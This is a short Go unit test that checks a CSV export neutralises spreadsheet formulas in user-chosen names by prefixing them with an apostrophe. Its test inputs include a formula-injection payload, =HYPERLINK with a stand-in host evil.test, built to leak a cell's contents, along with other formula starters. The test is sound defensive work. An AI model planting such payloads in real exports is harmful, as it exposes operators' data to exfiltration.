package main

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

// TestCSVHoldsNoFormulas: people choose their names, and operators open exports
// in spreadsheets.
func TestCSVHoldsNoFormulas(t *testing.T) {
	for _, name := range []string{`=HYPERLINK("http://evil.test/?"&A2)`, "+1", "-1", "@SUM(A1)", "\t=1", "'t Hooft"} {
		var out bytes.Buffer
		account, err := json.Marshal(map[string]any{"username": "ada", "name": name})
		if err != nil {
			t.Fatal(err)
		}
		if err := writeCSV(&out, false)(account); err != nil {
			t.Fatal(err)
		}
		line := strings.Split(out.String(), "\n")[1]
		if field := strings.TrimPrefix(strings.TrimPrefix(line, "ada,,"), `"`); !strings.HasPrefix(field, "'") {
			t.Errorf("%q stands as %s", name, line)
		}
	}
}
